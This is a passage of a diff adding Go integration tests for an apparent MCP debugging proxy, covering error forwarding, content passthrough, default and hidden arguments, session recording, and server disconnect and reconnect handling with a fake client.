@@ -0,0 +1,1494 @@
+package integration
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/mark3labs/mcp-go/mcp"
+	"github.com/mark3labs/mcp-go/server"
+
+	"mcp-debug/client"
+	"mcp-debug/config"
+	"mcp-debug/discovery"
+)
+
+// newTestWrapper creates a wrapper with a single connected server backed by mcpClient
+func newTestWrapper(t *testing.T, serverName string, mcpClient client.MCPClient) *DynamicWrapper {
+	t.Helper()
+
+	if err := mcpClient.Connect(context.Background()); err != nil {
+		t.Fatalf("connect %s: %v", serverName, err)
+	}
+
+	w := NewDynamicWrapper(&config.ProxyConfig{})
+	w.dynamicServers[serverName] = &DynamicServerInfo{
+		Name:        serverName,
+		Client:      mcpClient,
+		Config:      config.ServerConfig{Name: serverName, Prefix: serverName, Transport: "stdio"},
+		IsConnected: true,
+	}
+	return w
+}
+
+func TestDynamicProxyHandlerPreservesBackendErrorCode(t *testing.T) {
+	backendErr := &client.ClientError{
+		Code:    -32602,
+		Message: "invalid params",
+		Data:    map[string]interface{}{"field": "path"},
+	}
+	fake := client.NewFakeClient("fake")
+	fake.SetToolError("read", fmt.Errorf("failed to parse tools/call response: %w", backendErr))
+	w := newTestWrapper(t, "fake", fake)
+
+	handler := w.createDynamicProxyHandler(discovery.RemoteTool{
+		OriginalName: "read",
+		PrefixedName: "fake_read",
+		ServerName:   "fake",
+	})
+
+	result, err := handler(context.Background(), mcp.CallToolRequest{})
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if !result.IsError {
+		t.Fatal("expected error result")
+	}
+	if result.Meta == nil {
+		t.Fatal("expected _meta with backend error")
+	}
+
+	backendError, ok := result.Meta.AdditionalFields["error"].(map[string]any)
+	if !ok {
+		t.Fatalf("expected error map in _meta, got %#v", result.Meta.AdditionalFields)
+	}
+	if backendError["code"] != -32602 {
+		t.Errorf("expected code -32602, got %v", backendError["code"])
+	}
+	if data, ok := backendError["data"].(map[string]interface{}); !ok || data["field"] != "path" {
+		t.Errorf("expected data to be preserved, got %v", backendError["data"])
+	}
+
+	// The server must stay connected: the backend answered
+	if !w.dynamicServers["fake"].IsConnected {
+		t.Error("backend error should not mark server as disconnected")
+	}
+}
+
+func TestDynamicProxyHandlerForwardsMixedContent(t *testing.T) {
+	var backendResult client.CallToolResult
+	if err := json.Unmarshal([]byte(`{"content": [
+		{"type": "text", "text": "caption", "annotations": {"audience": ["user"], "priority": 0.5}},
+		{"type": "image", "data": "aGVsbG8=", "mimeType": "image/png"},
+		{"type": "resource", "resource": {"uri": "file:///notes.md", "mimeType": "text/markdown", "text": "# Notes"}},
+		{"type": "resource_link", "uri": "file:///big.bin", "name": "big.bin"},
+		{"type": "hologram", "text": "fallback text"}
+	]}`), &backendResult); err != nil {
+		t.Fatalf("decode backend result: %v", err)
+	}
+
+	fake := client.NewFakeClient("fake")
+	fake.SetToolResult("render", &backendResult)
+	w := newTestWrapper(t, "fake", fake)
+	handler := w.createDynamicProxyHandler(discovery.RemoteTool{
+		OriginalName: "render",
+		PrefixedName: "fake_render",
+		ServerName:   "fake",
+	})
+
+	result := callTool(t, handler, nil)
+	if len(result.Content) != 5 {
+		t.Fatalf("expected 5 content items, got %d: %#v", len(result.Content), result.Content)
+	}
+	if text, ok := result.Content[0].(mcp.TextContent); !ok || text.Text != "caption" ||
+		text.Annotations == nil || text.Annotations.Priority != 0.5 {
+		t.Errorf("expected annotated text item, got %#v", result.Content[0])
+	}
+	if image, ok := result.Content[1].(mcp.ImageContent); !ok || image.Data != "aGVsbG8=" || image.MIMEType != "image/png" {
+		t.Errorf("expected image item, got %#v", result.Content[1])
+	}
+	if resource, ok := result.Content[2].(mcp.EmbeddedResource); !ok {
+		t.Errorf("expected embedded resource, got %#v", result.Content[2])
+	} else if contents, ok := resource.Resource.(mcp.TextResourceContents); !ok || contents.URI != "file:///notes.md" || contents.Text != "# Notes" {
+		t.Errorf("expected text resource contents, got %#v", resource.Resource)
+	}
+	if link, ok := result.Content[3].(mcp.ResourceLink); !ok || link.URI != "file:///big.bin" {
+		t.Errorf("expected resource link, got %#v", result.Content[3])
+	}
+	if text, ok := result.Content[4].(mcp.TextContent); !ok || text.Text != "fallback text" {
+		t.Errorf("expected unknown type to fall back to text, got %#v", result.Content[4])
+	}
+
+	// resultContent: text restores the single joined text item
+	w.proxyServer.config.Proxy.ResultContent = config.ResultContentText
+	result = callTool(t, handler, nil)
+	if len(result.Content) != 1 {
+		t.Fatalf("expected one flattened item, got %d", len(result.Content))
+	}
+	if got := resultText(result); got != "caption\n\n\n\nfallback text" {
+		t.Errorf("unexpected flattened text %q", got)
+	}
+}
+
+func TestDynamicProxyHandlerForwardsStructuredContent(t *testing.T) {
+	var backendResult client.CallToolResult
+	if err := json.Unmarshal([]byte(`{
+		"content": [{"type": "text", "text": "{\"temperature\": 21.5}"}],
+		"structuredContent": {"temperature": 21.5, "readings": [1, 2, 3], "unit": {"name": "celsius"}},
+		"_meta": {"trace": "abc123"},
+		"isError": true
+	}`), &backendResult); err != nil {
+		t.Fatalf("decode backend result: %v", err)
+	}
+
+	for _, mode := range []config.ResultContentMode{config.ResultContentPassthrough, config.ResultContentText} {
+		fake := client.NewFakeClient("fake")
+		fake.SetToolResult("weather", &backendResult)
+		w := newTestWrapper(t, "fake", fake)
+		w.proxyServer.config.Proxy.ResultContent = mode
+		handler := w.createDynamicProxyHandler(discovery.RemoteTool{
+			OriginalName: "weather",
+			PrefixedName: "fake_weather",
+			ServerName:   "fake",
+		})
+
+		result := callTool(t, handler, nil)
+		if !result.IsError {
+			t.Errorf("%s: expected isError to be forwarded", mode)
+		}
+		if result.Meta == nil || result.Meta.AdditionalFields["trace"] != "abc123" {
+			t.Errorf("%s: expected _meta to be forwarded, got %#v", mode, result.Meta)
+		}
+
+		// The client sees the same structuredContent JSON the backend sent
+		encoded, err := json.Marshal(result)
+		if err != nil {
+			t.Fatalf("encode result: %v", err)
+		}
+		var decoded struct {
+			StructuredContent json.RawMessage `json:"structuredContent"`
+		}
+		if err := json.Unmarshal(encoded, &decoded); err != nil {
+			t.Fatalf("decode result: %v", err)
+		}
+		var got, want interface{}
+		json.Unmarshal(decoded.StructuredContent, &got)
+		json.Unmarshal(backendResult.StructuredContent, &want)
+		if want == nil || !reflect.DeepEqual(got, want) {
+			t.Errorf("%s: structuredContent changed: got %s, want %s", mode, decoded.StructuredContent, backendResult.StructuredContent)
+		}
+	}
+}
+
+func TestDynamicProxyHandlerDefaultArguments(t *testing.T) {
+	fake := client.NewFakeClient("fake")
+	w := newTestWrapper(t, "fake", fake)
+	w.dynamicServers["fake"].Config.DefaultArguments = config.ToolArguments{
+		"read": {"project": "default-project", "limit": 10},
+	}
+
+	handler := w.createDynamicProxyHandler(discovery.RemoteTool{
+		OriginalName: "read",
+		PrefixedName: "fake_read",
+		ServerName:   "fake",
+	})
+
+	callTool(t, handler, map[string]interface{}{"path": "/tmp/a"})
+	callTool(t, handler, map[string]interface{}{"path": "/tmp/b", "project": "mine"})
+
+	calls := fake.Calls()
+	if len(calls) != 2 {
+		t.Fatalf("expected 2 calls, got %d", len(calls))
+	}
+	if args := calls[0].Args; args["project"] != "default-project" || args["limit"] != 10 || args["path"] != "/tmp/a" {
+		t.Errorf("expected the defaults merged into the call, got %v", args)
+	}
+	if args := calls[1].Args; args["project"] != "mine" || args["limit"] != 10 {
+		t.Errorf("expected the client's project to win over the default, got %v", args)
+	}
+
+	other := w.createDynamicProxyHandler(discovery.RemoteTool{
+		OriginalName: "write",
+		PrefixedName: "fake_write",
+		ServerName:   "fake",
+	})
+	callTool(t, other, map[string]interface{}{"path": "/tmp/c"})
+	if args := fake.Calls()[2].Args; len(args) != 1 {
+		t.Errorf("expected no defaults for a tool without any, got %v", args)
+	}
+}
+
+func TestDynamicProxyHandlerHiddenArguments(t *testing.T) {
+	fake := client.NewFakeClient("fake")
+	w := newTestWrapper(t, "fake", fake)
+	w.dynamicServers["fake"].Config.DefaultArguments = config.ToolArguments{
+		"read": {"project": "default-project"},
+	}
+	w.dynamicServers["fake"].Config.HiddenArguments = config.ToolArgumentNames{"read": {"project"}}
+
+	handler := w.createDynamicProxyHandler(discovery.RemoteTool{
+		OriginalName: "read",
+		PrefixedName: "fake_read",
+		ServerName:   "fake",
+	})
+
+	// A hidden argument takes the default even if a client sends one
+	callTool(t, handler, map[string]interface{}{"path": "/tmp/b", "project": "mine"})
+	if args := fake.Calls()[0].Args; args["project"] != "default-project" || args["path"] != "/tmp/b" {
+		t.Errorf("expected the hidden argument's default, got %v", args)
+	}
+}
+
+func TestToggleRecording(t *testing.T) {
+	w := NewDynamicWrapper(&config.ProxyConfig{})
+	first := filepath.Join(t.TempDir(), "first.jsonl")
+
+	if err := w.EnableRecording(first); err != nil {
+		t.Fatalf("enable recording: %v", err)
+	}
+	w.recordMessage("request", "tool_call", "proxy_info", "proxy", map[string]string{"a": "b"})
+	if status := w.GetRecordingStatus(); !status.Enabled || status.Messages != 1 {
+		t.Fatalf("expected active recording with 1 message, got %+v", status)
+	}
+
+	// Toggle off, then on again into a new file next to the first one
+	if err := w.ToggleRecording(); err != nil {
+		t.Fatalf("toggle off: %v", err)
+	}
+	if w.GetRecordingStatus().Enabled {
+		t.Fatal("expected recording to be disabled")
+	}
+	if err := w.DisableRecording(); err == nil {
+		t.Error("expected error disabling inactive recording")
+	}
+
+	if err := w.ToggleRecording(); err != nil {
+		t.Fatalf("toggle on: %v", err)
+	}
+	defer w.DisableRecording()
+
+	status := w.GetRecordingStatus()
+	if !status.Enabled || status.Messages != 0 {
+		t.Fatalf("expected fresh active recording, got %+v", status)
+	}
+	if status.Filename == first || filepath.Dir(status.Filename) != filepath.Dir(first) {
+		t.Errorf("expected new file alongside %s, got %s", first, status.Filename)
+	}
+	if err := w.EnableRecording(first); err == nil {
+		t.Error("expected error enabling recording twice")
+	}
+}
+
+func TestEnableRecordingReportsHeaderWriteError(t *testing.T) {
+	if _, err := os.Stat("/dev/full"); err != nil {
+		t.Skip("/dev/full not available")
+	}
+	w := NewDynamicWrapper(&config.ProxyConfig{})
+
+	if err := w.EnableRecording("/dev/full"); err == nil || !strings.Contains(err.Error(), "failed to write recording header") {
+		t.Fatalf("expected a header write error, got %v", err)
+	}
+	if w.GetRecordingStatus().Enabled {
+		t.Error("expected recording to stay disabled after a failed header write")
+	}
+}
+
+func TestRecordStartStopTools(t *testing.T) {
+	w := NewDynamicWrapper(&config.ProxyConfig{})
+	filename := filepath.Join(t.TempDir(), "session.jsonl")
+
+	startRequest := mcp.CallToolRequest{}
+	startRequest.Params.Arguments = map[string]interface{}{"filename": filename}
+	result, _ := w.handleRecordStart(context.Background(), startRequest)
+	if result.IsError {
+		t.Fatalf("record_start failed: %v", result.Content)
+	}
+	if !w.GetRecordingStatus().Enabled {
+		t.Fatal("expected recording to be enabled")
+	}
+
+	// A second start must fail while recording is active
+	result, _ = w.handleRecordStart(context.Background(), startRequest)
+	if !result.IsError {
+		t.Error("expected error starting recording twice")
+	}
+
+	result, _ = w.handleRecordStop(context.Background(), mcp.CallToolRequest{})
+	if result.IsError {
+		t.Fatalf("record_stop failed: %v", result.Content)
+	}
+	text := result.Content[0].(mcp.TextContent).Text
+	if !strings.Contains(text, filename) || !strings.Contains(text, "Messages:") {
+		t.Errorf("unexpected record_stop summary: %s", text)
+	}
+
+	// The failed second start is recorded as a request and its response
+	data, err := os.ReadFile(filename)
+	if err != nil {
+		t.Fatalf("read recording: %v", err)
+	}
+	var directions []string
+	for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
+		var recorded RecordedMessage
+		if json.Unmarshal([]byte(line), &recorded) == nil && recorded.ToolName == "record_start" {
+			directions = append(directions, recorded.Direction)
+		}
+	}
+	if strings.Join(directions, ",") != "request,response,request,response" {
+		t.Errorf("expected both record_start calls recorded in order, got %v", directions)
+	}
+
+	result, _ = w.handleRecordStop(context.Background(), mcp.CallToolRequest{})
+	if !result.IsError {
+		t.Error("expected error stopping inactive recording")
+	}
+}
+
+func TestRecordingMetadataFormat(t *testing.T) {
+	filename := filepath.Join(t.TempDir(), "session.jsonl")
+	base := mcp.NewToolResultText("done")
+
+	annotate := func(t *testing.T, settings config.RecordSettings) *mcp.CallToolResult {
+		w := NewDynamicWrapper(&config.ProxyConfig{Record: settings})
+		if err := w.EnableRecording(filename); err != nil {
+			t.Fatalf("enable recording: %v", err)
+		}
+		defer w.DisableRecording()
+		return w.addRecordingMetadata(base)
+	}
+
+	t.Run("text", func(t *testing.T) {
+		result := annotate(t, config.RecordSettings{})
+		if len(result.Content) != 2 || !strings.HasPrefix(result.Content[1].(mcp.TextContent).Text, recordingMetadataPrefix) {
+			t.Errorf("expected the default annotation, got %#v", result.Content)
+		}
+	})
+
+	t.Run("template", func(t *testing.T) {
+		result := annotate(t, config.RecordSettings{MetadataTemplate: "recording={path}"})
+		if len(result.Content) != 2 || result.Content[1].(mcp.TextContent).Text != recordingMetadataPrefix+"recording="+filename || !hasRecordingMetadata(result) {
+			t.Errorf("expected the templated annotation, got %#v", result.Content)
+		}
+	})
+
+	t.Run("meta", func(t *testing.T) {
+		result := annotate(t, config.RecordSettings{MetadataFormat: config.RecordMetadataMeta})
+		if len(result.Content) != 1 || result.Meta == nil {
+			t.Fatalf("expected the recording in _meta only, got %#v", result)
+		}
+		recording, _ := result.Meta.AdditionalFields[recordingMetaKey].(map[string]any)
+		if recording["path"] != filename {
+			t.Errorf("expected _meta to name %s, got %v", filename, result.Meta.AdditionalFields)
+		}
+		if base.Meta != nil {
+			t.Error("expected the input result to be left unchanged")
+		}
+		if !hasRecordingMetadata(result) {
+			t.Error("expected _meta recording to be detected")
+		}
+	})
+
+	t.Run("none", func(t *testing.T) {
+		result := annotate(t, config.RecordSettings{MetadataFormat: config.RecordMetadataNone})
+		if result != base {
+			t.Errorf("expected the result unchanged, got %#v", result)
+		}
+	})
+}
+
+func TestRecordFlushPolicy(t *testing.T) {
+	countMessages := func(t *testing.T, filename string) int {
+		data, err := os.ReadFile(filename)
+		if err != nil {
+			t.Fatalf("read recording: %v", err)
+		}
+		return strings.Count(string(data), `"direction":`)
+	}
+
+	t.Run("close", func(t *testing.T) {
+		w := NewDynamicWrapper(&config.ProxyConfig{})
+		if err := w.SetRecordFlushPolicy(FlushOnClose, 0); err != nil {
+			t.Fatalf("set flush policy: %v", err)
+		}
+		filename := filepath.Join(t.TempDir(), "session.jsonl")
+		if err := w.EnableRecording(filename); err != nil {
+			t.Fatalf("enable recording: %v", err)
+		}
+		w.recordMessage("request", "tool_call", "proxy_info", "proxy", map[string]string{"a": "b"})
+
+		if n := countMessages(t, filename); n != 0 {
+			t.Errorf("expected buffered message to be unflushed, found %d on disk", n)
+		}
+		if err := w.DisableRecording(); err != nil {
+			t.Fatalf("disable recording: %v", err)
+		}
+		if n := countMessages(t, filename); n != 1 {
+			t.Errorf("expected 1 message after stop, found %d", n)
+		}
+	})
+
+	t.Run("interval", func(t *testing.T) {
+		w := NewDynamicWrapper(&config.ProxyConfig{})
+		if err := w.SetRecordFlushPolicy(FlushInterval, 10*time.Millisecond); err != nil {
+			t.Fatalf("set flush policy: %v", err)
+		}
+		filename := filepath.Join(t.TempDir(), "session.jsonl")
+		if err := w.EnableRecording(filename); err != nil {
+			t.Fatalf("enable recording: %v", err)
+		}
+		defer w.DisableRecording()
+		w.recordMessage("request", "tool_call", "proxy_info", "proxy", map[string]string{"a": "b"})
+
+		deadline := time.Now().Add(2 * time.Second)
+		for countMessages(t, filename) != 1 {
+			if time.Now().After(deadline) {
+				t.Fatal("background flusher did not write the message")
+			}
+			time.Sleep(5 * time.Millisecond)
+		}
+	})
+
+	t.Run("invalid", func(t *testing.T) {
+		w := NewDynamicWrapper(&config.ProxyConfig{})
+		if err := w.SetRecordFlushPolicy("sometimes", 0); err == nil {
+			t.Error("expected error for unknown policy")
+		}
+		if err := w.SetRecordFlushPolicy(FlushInterval, -time.Second); err == nil {
+			t.Error("expected error for negative interval")
+		}
+	})
+}
+
+func TestDynamicProxyHandlerRecordsDuration(t *testing.T) {
+	w := newTestWrapper(t, "fake", client.NewFakeClient("fake"))
+
+	filename := filepath.Join(t.TempDir(), "session.jsonl")
+	if err := w.EnableRecording(filename); err != nil {
+		t.Fatalf("enable recording: %v", err)
+	}
+
+	handler := w.createDynamicProxyHandler(discovery.RemoteTool{
+		OriginalName: "read",
+		PrefixedName: "fake_read",
+		ServerName:   "fake",
+	})
+	if _, err := handler(context.Background(), mcp.CallToolRequest{}); err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	w.DisableRecording()
+
+	data, err := os.ReadFile(filename)
+	if err != nil {
+		t.Fatalf("read recording: %v", err)
+	}
+
+	var sawResponse bool
+	for _, line := range strings.Split(string(data), "\n") {
+		if !strings.HasPrefix(line, `{"timestamp"`) {
+			continue
+		}
+		raw := map[string]interface{}{}
+		if err := json.Unmarshal([]byte(line), &raw); err != nil {
+			t.Fatalf("invalid recorded line: %v", err)
+		}
+		_, hasDuration := raw["duration_ms"]
+		switch raw["direction"] {
+		case "request":
+			if hasDuration {
+				t.Error("request should not carry duration_ms")
+			}
+		case "response":
+			sawResponse = true
+			if !hasDuration {
+				t.Error("response should carry duration_ms")
+			}
+		}
+	}
+	if !sawResponse {
+		t.Fatal("expected a recorded response")
+	}
+}
+
+func TestRecordOriginalToolNames(t *testing.T) {
+	for _, enabled := range []bool{false, true} {
+		t.Run(fmt.Sprintf("originalToolNames=%v", enabled), func(t *testing.T) {
+			w := newTestWrapper(t, "fake", client.NewFakeClient("fake"))
+			w.proxyServer.record.OriginalToolNames = enabled
+
+			filename := filepath.Join(t.TempDir(), "session.jsonl")
+			if err := w.EnableRecording(filename); err != nil {
+				t.Fatalf("enable recording: %v", err)
+			}
+			handler := w.createDynamicProxyHandler(discovery.RemoteTool{
+				OriginalName: "read",
+				PrefixedName: "fake_read",
+				ServerName:   "fake",
+			})
+			callTool(t, handler, nil)
+			w.DisableRecording()
+
+			data, err := os.ReadFile(filename)
+			if err != nil {
+				t.Fatalf("read recording: %v", err)
+			}
+			want := 0
+			if enabled {
+				want = 2
+			}
+			if got := strings.Count(string(data), `"original_tool_name":"read"`); got != want {
+				t.Errorf("expected %d records with the original tool name, got %d:\n%s", want, got, data)
+			}
+			if strings.Count(string(data), `"tool_name":"fake_read"`) != 2 {
+				t.Errorf("expected the prefixed name to be recorded either way, got:\n%s", data)
+			}
+		})
+	}
+}
+
+func TestMaxMessageLogBytes(t *testing.T) {
+	fake := client.NewFakeClient("fake")
+	fake.SetToolResult("read", &client.CallToolResult{Content: []client.ContentItem{{Type: "text", Text: strings.Repeat("x", 500)}}})
+	w := newTestWrapper(t, "fake", fake)
+	w.SetMaxMessageLogBytes(200)
+
+	filename := filepath.Join(t.TempDir(), "session.jsonl")
+	if err := w.EnableRecording(filename); err != nil {
+		t.Fatalf("enable recording: %v", err)
+	}
+	handler := w.createDynamicProxyHandler(discovery.RemoteTool{
+		OriginalName: "read",
+		PrefixedName: "fake_read",
+		ServerName:   "fake",
+	})
+	if text := resultText(callTool(t, handler, nil)); len(text) != 500 {
+		t.Errorf("expected the client to get the whole result, got %d bytes", len(text))
+	}
+	w.DisableRecording()
+
+	data, err := os.ReadFile(filename)
+	if err != nil {
+		t.Fatalf("read recording: %v", err)
+	}
+	var request, response RecordedMessage
+	for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
+		var recorded RecordedMessage
+		if err := json.Unmarshal([]byte(line), &recorded); err != nil || recorded.MessageType != "tool_call" {
+			continue
+		}
+		if recorded.Direction == "request" {
+			request = recorded
+		} else {
+			response = recorded
+		}
+	}
+
+	var marker TruncatedMessage
+	if err := json.Unmarshal(request.Message, &marker); err != nil || marker.Truncated {
+		t.Errorf("expected the small request kept, got %s", request.Message)
+	}
+	if err := json.Unmarshal(response.Message, &marker); err != nil || !marker.Truncated || marker.OriginalSize <= 500 {
+		t.Errorf("expected the large response replaced by a marker, got %s", response.Message)
+	}
+}
+
+// callTool invokes a management or proxied tool handler with arguments
+func callTool(t *testing.T, handler server.ToolHandlerFunc, args map[string]interface{}) *mcp.CallToolResult {
+	t.Helper()
+
+	request := mcp.CallToolRequest{}
+	request.Params.Arguments = args
+	result, err := handler(context.Background(), request)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	return result
+}
+
+func resultText(result *mcp.CallToolResult) string {
+	if len(result.Content) == 0 {
+		return ""
+	}
+	if text, ok := result.Content[0].(mcp.TextContent); ok {
+		return text.Text
+	}
+	return ""
+}
+
+func TestConnectionErrorMarksServerDisconnected(t *testing.T) {
+	fake := client.NewFakeClient("fake")
+	w := newTestWrapper(t, "fake", fake)
+	handler := w.createDynamicProxyHandler(discovery.RemoteTool{
+		OriginalName: "read",
+		PrefixedName: "fake_read",
+		ServerName:   "fake",
+	})
+
+	if result := callTool(t, handler, nil); result.IsError {
+		t.Fatalf("expected success before crash, got %q", resultText(result))
+	}
+
+	fake.Crash()
+	result := callTool(t, handler, nil)
+	if !result.IsError || !strings.Contains(resultText(result), "connection failed") {
+		t.Errorf("expected connection failure, got %q", resultText(result))
+	}
+	if w.dynamicServers["fake"].IsConnected {
+		t.Fatal("expected server to be marked disconnected")
+	}
+
+	// Subsequent calls fail fast without reaching the backend
+	calls := len(fake.Calls())
+	result = callTool(t, handler, nil)
+	if !result.IsError || !strings.Contains(resultText(result), "is disconnected") {
+		t.Errorf("expected disconnected error, got %q", resultText(result))
+	}
+	if len(fake.Calls()) != calls {
+		t.Error("expected no backend call while disconnected")
+	}
+}
+
+func TestToolErrorTextDoesNotDisconnect(t *testing.T) {
+	messages := []string{
+		"the file is closed",
+		"timeout waiting for lock",
+		"database connection refused",
+		"unexpected EOF in input document",
+		"broken pipe in user pipeline",
+	}
+
+	for _, message := range messages {
+		t.Run(message, func(t *testing.T) {
+			fake := client.NewFakeClient("fake")
+			fake.SetToolError("read", fmt.Errorf("tool failed: %s", message))
+			w := newTestWrapper(t, "fake", fake)
+			handler := w.createDynamicProxyHandler(discovery.RemoteTool{
+				OriginalName: "read",
+				PrefixedName: "fake_read",
+				ServerName:   "fake",
+			})
+
+			result := callTool(t, handler, nil)
+			if !result.IsError || !strings.Contains(resultText(result), message) {
+				t.Errorf("expected tool error %q, got %q", message, resultText(result))
+			}
+			if !w.dynamicServers["fake"].IsConnected {
+				t.Fatal("tool error text must not disconnect the server")
+			}
+		})
+	}
+}
+
+func TestServerAddAndReconnectWithFakeClient(t *testing.T) {
+	w := NewDynamicWrapper(&config.ProxyConfig{})
+
+	var created []*client.FakeClient
+	w.SetClientFactory(func(serverConfig config.ServerConfig) client.MCPClient {
+		fake := client.NewFakeClient(serverConfig.Name,
+			client.ToolInfo{Name: "read"},
+			client.ToolInfo{Name: "write"},
+		)
+		fake.SetToolResult("read", &client.CallToolResult{
+			Content: []client.ContentItem{{Type: "text", Text: fmt.Sprintf("generation %d", len(created)+1)}},
+		})
+		created = append(created, fake)
+		return fake
+	})
+
+	result := callTool(t, w.handleServerAdd, map[string]interface{}{"name": "fs", "command": "fake-server"})
+	if result.IsError {
+		t.Fatalf("server_add failed: %s", resultText(result))
+	}
+	if tools := w.dynamicServers["fs"].Tools; len(tools) != 2 {
+		t.Fatalf("expected 2 registered tools, got %v", tools)
+	}
+
+	handler := w.createDynamicProxyHandler(discovery.RemoteTool{
+		OriginalName: "read",
+		PrefixedName: "fs_read",
+		ServerName:   "fs",
+	})
+	if text := resultText(callTool(t, handler, nil)); text != "generation 1" {
+		t.Fatalf("unexpected tool result %q", text)
+	}
+
+	result = callTool(t, w.handleServerDisconnect, map[string]interface{}{"name": "fs"})
+	if result.IsError {
+		t.Fatalf("server_disconnect failed: %s", resultText(result))
+	}
+	result = callTool(t, w.handleServerReconnect, map[string]interface{}{"name": "fs"})
+	if result.IsError {
+		t.Fatalf("server_reconnect failed: %s", resultText(result))
+	}
+
+	// Existing handlers route to the new client after reconnect
+	if len(created) != 2 {
+		t.Fatalf("expected a new client on reconnect, got %d clients", len(created))
+	}
+	if text := resultText(callTool(t, handler, nil)); text != "generation 2" {
+		t.Errorf("expected call to reach reconnected client, got %q", text)
+	}
+	if tools := w.proxyServer.registry.GetServerTools("fs"); len(tools) != 2 {
+		t.Errorf("expected tools to stay registered after reconnect, got %d", len(tools))
+	}
+}
+
+func TestServerReconnectUpdatesChangedSchema(t *testing.T) {
+	w := NewDynamicWrapper(&config.ProxyConfig{})
+	schema := `{"type":"object","properties":{"path":{"type":"string"}}}`
+	w.SetClientFactory(func(serverConfig config.ServerConfig) client.MCPClient {
+		return client.NewFakeClient(serverConfig.Name, client.ToolInfo{Name: "read", Description: "Read a file", InputSchema: json.RawMessage(schema)})
+	})
+	if result := callTool(t, w.handleServerAdd, map[string]interface{}{"name": "fs", "command": "fake-server"}); result.IsError {
+		t.Fatalf("server_add failed: %s", resultText(result))
+	}
+
+	// The rebuilt backend takes another argument
+	schema = `{"type":"object","properties":{"path":{"type":"string"},"encoding":{"type":"string"}},"required":["path"]}`
+	callTool(t, w.handleServerDisconnect, map[string]interface{}{"name": "fs"})
+	if result := callTool(t, w.handleServerReconnect, map[string]interface{}{"name": "fs"}); result.IsError {
+		t.Fatalf("server_reconnect failed: %s", resultText(result))
+	}
+
+	// As a client would list it
+	response := w.baseServer.HandleMessage(context.Background(), []byte(`{"jsonrpc":"2.0","id":1,"method":"tools/list"}`))
+	data, err := json.Marshal(response)
+	if err != nil {
+		t.Fatalf("marshal tools/list response: %v", err)
+	}
+	var listed struct {
+		Result struct {
+			Tools []struct {
+				Name        string          `json:"name"`
+				InputSchema json.RawMessage `json:"inputSchema"`
+			} `json:"tools"`
+		} `json:"result"`
+	}
+	if err := json.Unmarshal(data, &listed); err != nil {
+		t.Fatalf("invalid tools/list response %s: %v", data, err)
+	}
+	var found bool
+	for _, tool := range listed.Result.Tools {
+		if tool.Name == "fs_read" {
+			found = true
+			if !strings.Contains(string(tool.InputSchema), "encoding") {
+				t.Errorf("expected the new schema after reconnect, got %s", tool.InputSchema)
+			}
+		}
+	}
+	if !found {
+		t.Fatalf("expected fs_read in tools/list, got %s", data)
+	}
+}
+
+func TestServerReconnectReusesEnvironmentSnapshot(t *testing.T) {
+	cfg := &config.ProxyConfig{}
+	cfg.Proxy.SnapshotEnv = true
+	w := NewDynamicWrapper(cfg)
+
+	// Each client sees a newer parent environment than the one before
+	launches := 0
+	w.SetClientFactory(func(serverConfig config.ServerConfig) client.MCPClient {
+		launches++
+		fake := client.NewFakeClient(serverConfig.Name, client.ToolInfo{Name: "read"})
+		fake.SetEnvironment([]string{fmt.Sprintf("GENERATION=%d", launches)})
+		return fake
+	})
+	environment := func() []string {
+		return w.dynamicServers["fs"].Client.(client.EnvironmentSnapshotter).Environment()
+	}
+
+	callTool(t, w.handleServerAdd, map[string]interface{}{"name": "fs", "command": "fake-server"})
+	callTool(t, w.handleServerDisconnect, map[string]interface{}{"name": "fs"})
+	if result := callTool(t, w.handleServerReconnect, map[string]interface{}{"name": "fs"}); result.IsError {
+		t.Fatalf("reconnect failed: %s", resultText(result))
+	}
+	if env := environment(); len(env) != 1 || env[0] != "GENERATION=1" {
+		t.Errorf("expected the first launch's environment on reconnect, got %v", env)
+	}
+
+	callTool(t, w.handleServerDisconnect, map[string]interface{}{"name": "fs"})
+	callTool(t, w.handleServerReconnect, map[string]interface{}{"name": "fs", "refresh_env": true})
+	if env := environment(); len(env) != 1 || env[0] != "GENERATION=3" {
+		t.Errorf("expected refresh_env to resolve the environment again, got %v", env)
+	}
+	if snapshot := w.dynamicServers["fs"].EnvSnapshot; len(snapshot) != 1 || snapshot[0] != "GENERATION=3" {
+		t.Errorf("expected the refreshed environment to become the snapshot, got %v", snapshot)
+	}
+}
+
+func TestServerAddRecordsInitializeHandshake(t *testing.T) {
+	w := NewDynamicWrapper(&config.ProxyConfig{})
+	w.SetClientFactory(func(serverConfig config.ServerConfig) client.MCPClient {
+		return client.NewFakeClient(serverConfig.Name, client.ToolInfo{Name: "read"})
+	})
+
+	filename := filepath.Join(t.TempDir(), "session.jsonl")
+	if err := w.EnableRecording(filename); err != nil {
+		t.Fatalf("enable recording: %v", err)
+	}
+	result := callTool(t, w.handleServerAdd, map[string]interface{}{"name": "fs", "command": "fake-server"})
+	if result.IsError {
+		t.Fatalf("server_add failed: %s", resultText(result))
+	}
+	w.DisableRecording()
+
+	data, err := os.ReadFile(filename)
+	if err != nil {
+		t.Fatalf("read recording: %v", err)
+	}
+
+	handshake := map[string]json.RawMessage{}
+	for _, line := range strings.Split(string(data), "\n") {
+		var recorded RecordedMessage
+		if json.Unmarshal([]byte(line), &recorded) != nil || recorded.MessageType != "initialize" {
+			continue
+		}
+		if recorded.ServerName != "fs" {
+			t.Errorf("expected handshake for server fs, got %q", recorded.ServerName)
+		}
+		handshake[recorded.Direction] = recorded.Message
+	}
+
+	var params client.InitializeParams
+	if err := json.Unmarshal(handshake["request"], &params); err != nil || params.ClientInfo.Name != client.ProxyClientName {
+		t.Errorf("expected recorded initialize params, got %s", handshake["request"])
+	}
+	var initResult client.InitializeResult
+	if err := json.Unmarshal(handshake["response"], &initResult); err != nil || initResult.ServerInfo.Name != "fs" || initResult.ProtocolVersion == "" {
+		t.Errorf("expected recorded initialize result, got %s", handshake["response"])
+	}
+}
+
+func TestServerAddRecordsFailedHandshake(t *testing.T) {
+	w := NewDynamicWrapper(&config.ProxyConfig{Proxy: config.ProxySettings{MaxRetries: new(int)}})
+	w.SetClientFactory(func(serverConfig config.ServerConfig) client.MCPClient {
